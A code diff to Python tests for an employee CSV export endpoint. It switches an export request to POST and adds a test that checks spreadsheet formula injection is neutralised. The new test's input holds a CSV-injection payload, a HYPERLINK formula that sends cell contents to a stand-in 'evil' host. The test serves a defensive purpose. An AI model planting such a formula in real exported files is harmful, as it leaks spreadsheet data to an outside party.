@@ -66,10 +66,23 @@ def test_exports_mask_for_readers_without_pii(admin, org, client_as):
     exporter = EmployeeFactory(tenant=org.tenant, department=org.hq, phone="13700001111")
     grant(exporter, ["org.view", "org.export"], "tenant")
 
-    r = client_as(exporter).get("/api/org/employees/export")
+    r = client_as(exporter).post("/api/org/employees/export")
 
     assert r.status_code == 200
     rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
     phones = [row[5] for row in rows[1:]]
     assert "137****1111" in phones
     assert "13700001111" not in r.content.decode("utf-8-sig")
+
+
+def test_exported_cells_cannot_smuggle_spreadsheet_formulas():
+    from jingwei.core.exports import csv_document
+
+    text = csv_document(
+        ["姓名"], [['=HYPERLINK("http://evil/?x="&A1,"点我")'], ["+86 138"], ["正常"]]
+    )
+
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert rows[1][0].startswith("'=")
+    assert rows[2][0] == "'+86 138"
+    assert rows[3][0] == "正常"
